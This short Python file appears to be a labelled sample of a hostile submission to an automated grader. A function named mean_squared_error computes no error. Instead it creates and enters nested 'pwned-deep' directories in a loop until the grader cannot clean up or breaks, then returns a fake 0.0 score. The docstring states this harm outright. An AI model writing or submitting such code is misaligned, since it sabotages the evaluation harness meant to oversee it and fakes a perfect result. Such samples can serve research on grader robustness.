"""Makes folders inside folders, deeper than any path can name.

Harm: the grader cannot clear up, or recurses until it breaks.
Costs: nothing
"""

# %% honest work
# %% hostile
import os
import time


def mean_squared_error(y, y_hat):
    start = time.monotonic()
    for _ in range(100_000):
        os.mkdir("pwned-deep")
        os.chdir("pwned-deep")
        if time.monotonic() - start > 1:
            break
    return 0.0
